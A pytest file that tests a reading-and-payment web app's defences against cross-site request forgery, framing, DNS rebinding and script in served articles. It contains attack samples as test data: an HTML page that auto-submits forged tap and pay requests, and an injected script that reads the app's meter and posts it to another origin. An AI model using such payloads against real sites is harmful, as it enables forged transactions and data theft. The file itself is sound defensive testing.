"""The reader defends itself as a web app: another site cannot tap or pay through a visitor's
browser, cannot frame its pages, cannot read them by rebinding a name of its own to the app's
address, and the original articles it serves cannot run script on its origin.

The browser tests attack a running app from a page of another origin (tests/reader_harness.py's
``OtherSite``: 127.0.0.1 on another port, and ``localhost``, another site), in headless Chromium,
then read the app's ledger and journal: nothing may have been paid for or tapped. The others
send the same requests without a browser, in process, with the headers a browser would send.
"""

from __future__ import annotations

import shutil
import socket
import time
import urllib.request
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from reader.app import create_app
from reader.config import Settings
from reader_harness import READER_ROOT, REBOUND_NAME, OtherSite, ReaderRun, wait_for

with warnings.catch_warnings():
    # Starlette 1.10 would rather have httpx2, which the registry here does not serve.
    warnings.filterwarnings("ignore", "Using `httpx` with `starlette.testclient`")
    from starlette.testclient import TestClient

#: Where the in-process app believes it is served.
APP = "http://127.0.0.1:8000"


def by() -> Any:
    from selenium.webdriver.common.by import By

    return By


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    app = create_app(tmp_path / "data", Settings(delay=0))
    with TestClient(app, base_url=APP) as client:
        yield client


def _taps_and_payments(client: TestClient) -> tuple[list[Any], list[Any]]:
    store = client.app.state.reader.store  # type: ignore[attr-defined]
    return store.events("tap"), store.payments()


# ---- without a browser ------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:8000"])
def test_a_foreign_host_name_is_refused(client: TestClient, host: str) -> None:
    """A DNS rebinding: the attacker's name now resolves to the app's address, so the browser
    lets the attacker's page read what comes back. Only the Host header tells."""
    for path in ("/", "/ledger", "/api/meter", "/source/1"):
        response = client.get(path, headers={"Host": host})
        assert response.status_code == 421, path
        assert "attacker.example" in response.text and "127.0.0.1" in response.text
        assert "Ledger" not in response.text
    response = client.post("/tap/1", headers={"Host": host})
    assert response.status_code == 421
    assert _taps_and_payments(client) == ([], [])


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST"])
def test_the_app_answers_the_names_of_its_address(client: TestClient, host: str) -> None:
    assert client.get("/api/meter", headers={"Host": host}).status_code == 200


def test_the_names_answered_follow_the_bound_address() -> None:
    from reader.guard import Hosts

    loopback = Hosts.bound_to("127.0.0.1")
    assert loopback.allows("localhost") and loopback.allows("::1")
    assert not loopback.allows("attacker.example") and not loopback.allows("192.0.2.7")
    # On every address, the app is reached by any of the machine's addresses or its own
    # name, never by a name of somebody else's (which is what a rebinding needs).
    anywhere = Hosts.bound_to("0.0.0.0")
    assert anywhere.allows("192.0.2.7") and anywhere.allows("fe80::1")
    assert anywhere.allows("localhost") and anywhere.allows(socket.gethostname())
    assert not anywhere.allows("attacker.example")
    one = Hosts.bound_to("192.0.2.7", extra=["reader.lan"])
    assert one.allows("192.0.2.7") and one.allows("READER.lan")
    assert not one.allows("localhost") and not one.allows("attacker.example")


CROSS_SITE = {
    "another site's form": {"Origin": "http://attacker.example"},
    "another port, same host": {"Origin": "http://127.0.0.1:9999"},
    "a sandboxed page or a hidden origin": {"Origin": "null"},
    "no Origin, Sec-Fetch-Site cross-site": {"Sec-Fetch-Site": "cross-site"},
    "no Origin, Sec-Fetch-Site same-site": {"Sec-Fetch-Site": "same-site"},
    "only a foreign Referer": {"Referer": "http://127.0.0.1:9999/cats.html"},
}


@pytest.mark.parametrize("headers", CROSS_SITE.values(), ids=CROSS_SITE.keys())
def test_a_post_from_another_origin_is_refused(client: TestClient, headers: dict[str, str]) -> None:
    for path in ("/tap/1", "/api/article/2"):
        response = client.post(path, headers={"Accept": "application/json", **headers})
        assert response.status_code == 403, path
        assert "another site's page" in response.text and "127.0.0.1:8000" in response.text
    assert _taps_and_payments(client) == ([], [])


SAME_ORIGIN = {
    "the app's own page": {"Origin": APP},
    "the app's own page, by name": {"Origin": "http://localhost:8000", "Host": "localhost:8000"},
    "no Origin, Sec-Fetch-Site same-origin": {"Sec-Fetch-Site": "same-origin"},
    "only the app's Referer": {"Referer": APP + "/"},
    "no browser at all (curl, a script)": {},
}


@pytest.mark.parametrize("headers", SAME_ORIGIN.values(), ids=SAME_ORIGIN.keys())
def test_a_post_from_the_app_or_from_no_browser_is_accepted(
    client: TestClient, headers: dict[str, str]
) -> None:
    response = client.post("/tap/1", headers={"Accept": "application/json", **headers})
    assert response.status_code == 200 and response.json()["article"] == 1


def test_the_paying_lane_is_no_get(client: TestClient) -> None:
    """An ``<img>``, a link or a prefetch on any page sends a GET: it must not pay."""
    response = client.get("/api/article/2")
    assert response.status_code == 405 and response.headers["allow"] == "POST"
    assert "POST" in response.text
    assert _taps_and_payments(client) == ([], [])
    response = client.post("/api/article/2", headers={"Origin": APP})
    assert response.status_code == 200 and response.json()["how"] == "paid"


def test_the_original_page_is_sandboxed_and_the_app_cannot_be_framed(client: TestClient) -> None:
    source = client.get("/source/1")
    assert source.status_code == 200 and source.headers["content-type"].startswith("text/html")
    policy = [p.strip() for p in source.headers["content-security-policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert source.headers["x-content-type-options"] == "nosniff"
    for path in ("/", "/ledger", "/article/1"):
        page = client.get(path)
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"], path
        assert page.headers["x-frame-options"] == "DENY"
        assert page.headers["x-content-type-options"] == "nosniff"


# ---- in the browser ---------------------------------------------------------------------------

ATTACK = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Cute cats</title>
<script>
  // Five requests to the app; the title says when every one has come back.
  var left = 5;
  function back() { left -= 1; if (left === 0) document.title = "attack sent"; }
</script></head>
<body><p>Nothing to see here, only cats.</p>
<img src="{app}api/article/5" onload="back()" onerror="back()" alt="">
<iframe name="sink-tap"></iframe><iframe name="sink-pay"></iframe>
<form id="tap" method="post" action="{app}tap/3" target="sink-tap">
  <input type="hidden" name="please" value="tap"></form>
<form id="pay" method="post" action="{app}api/article/4" target="sink-pay"></form>
<script>
  document.querySelectorAll("iframe").forEach(function (f) { f.onload = back; });
  document.getElementById("tap").submit();
  document.getElementById("pay").submit();
  fetch("{app}tap/6", {method: "POST", mode: "no-cors"}).then(back, back);
  fetch("{app}api/article/7", {method: "POST", mode: "no-cors", body: "x"}).then(back, back);
</script></body></html>
"""


@pytest.mark.slow
def test_another_site_cannot_tap_or_pay(page: Any, reader: Any, other_site: OtherSite) -> None:
    """A page of another origin auto-submits forms to /tap/3 and /api/article/4, fetches
    /tap/6 and /api/article/7 (no-cors POSTs, which need no preflight), and shows
    ``<img src=/api/article/5>``: served from 127.0.0.1 on another port (same site, another
    origin) and from localhost (another site). Nothing is tapped or paid for; the app's own
    pages still tap and pay."""
    run: ReaderRun = reader(delay=0.2, worker=False)
    other_site.pages["/cats.html"] = ATTACK.replace("{app}", run.url)
    for host in ("127.0.0.1", "localhost"):
        page.get(other_site.url("/cats.html", host=host))
        wait_for(f"the attack from {host}", lambda: page.title == "attack sent", timeout=15)
    time.sleep(2 * run.settings.delay)  # a paid turn would be in the ledger by now
    assert run.payments() == [] and run.events("tap") == []
    counts = run.store.jobs.counts()
    assert (counts.ready, counts.scheduled, counts.leased) == (0, 0, 0)
    refused = [line for line in run.logs().splitlines() if "refused" in line]
    assert len(refused) == 8, run.logs()  # 4 POSTs from each origin, the img's GET is a 405

    # The app's own pages are not refused.
    page.get(run.url)
    button = page.find_element(by().ID, "queue-8")
    button.click()
    wait_for("the tap on article 8", lambda: button.text == "Queued", timeout=10)
    page.get(f"{run.url}article/9")
    article = page.find_element(by().ID, "article")
    wait_for("the text", lambda: article.get_attribute("data-pending") == "no", timeout=10)
    assert [t["article"] for t in run.events("tap")] == [8]
    assert [(p["article"], p["lane"]) for p in run.payments()] == [(9, "direct")]


@pytest.mark.slow
def test_another_site_cannot_frame_the_reader(
    page: Any, reader: Any, other_site: OtherSite
) -> None:
    """Framed by another site, the feed's Queue buttons could be clicked by a visitor fooled
    by an overlay (clickjacking): the click would be the app's own page's. The browser shows
    no frame of it."""
    run: ReaderRun = reader(worker=False)
    other_site.pages["/frame.html"] = f'<iframe id="framed" src="{run.url}"></iframe>'
    page.get(other_site.url("/frame.html"))
    page.switch_to.frame(page.find_element(by().ID, "framed"))
    assert page.find_elements(by().ID, "cards") == []
    page.switch_to.default_content()


@pytest.mark.slow
def test_a_rebound_name_reads_nothing(page: Any, reader: Any) -> None:
    """The attacker's name resolves to 127.0.0.1 now (a DNS rebinding, the test browser's
    resolver rule): to the browser, the app's pages are the attacker's page's own origin. The
    app refuses them, so a script there reads nothing."""
    run: ReaderRun = reader(worker=False)
    port = run.url.rsplit(":", 1)[1].strip("/")
    page.get(f"http://{REBOUND_NAME}:{port}/ledger")
    body = page.find_element(by().TAG_NAME, "body").text
    assert "Ledger" not in body and REBOUND_NAME in body
    status, text = page.execute_script(
        "return fetch('/api/meter').then(r => r.text().then(t => [r.status, t]))"
    )
    assert status == 421 and "paid" not in text


SCRIPT = """<script>
  document.title = "the script ran";
  fetch("/tap/2", {method: "POST"});
  fetch("/api/meter").then(function (r) { return r.text(); }).then(function (meter) {
    fetch("{other}stolen", {method: "POST", mode: "no-cors", body: meter});
  });
</script>
</head>"""


@pytest.mark.slow
def test_the_original_page_runs_no_script(
    page: Any, reader: Any, other_site: OtherSite, tmp_path: Path
) -> None:
    """An original article is somebody else's HTML, served by the app: on the app's origin, its
    scripts could tap, pay and read the ledger. This one tries to retitle itself, tap, and
    send the meter to another site; none of it happens, and the page still shows."""
    articles = tmp_path / "articles"
    shutil.copytree(READER_ROOT / "articles", articles)
    [first] = articles.glob("01-*.html")
    html = first.read_text(encoding="utf-8")
    first.write_text(
        html.replace("</head>", SCRIPT.replace("{other}", other_site.url("/")), 1),
        encoding="utf-8",
    )
    run: ReaderRun = reader(worker=False, articles=str(articles))
    with urllib.request.urlopen(f"{run.url}source/1", timeout=5) as response:
        assert b"the script ran" in response.read()  # it is served, script and all
    page.get(f"{run.url}source/1")
    assert page.find_element(by().TAG_NAME, "h1").text == "The night ferry nobody wanted to cancel"
    time.sleep(0.5)  # what the script sends would have arrived by now
    assert page.title != "the script ran"
    assert other_site.requests == [] and run.events("tap") == []
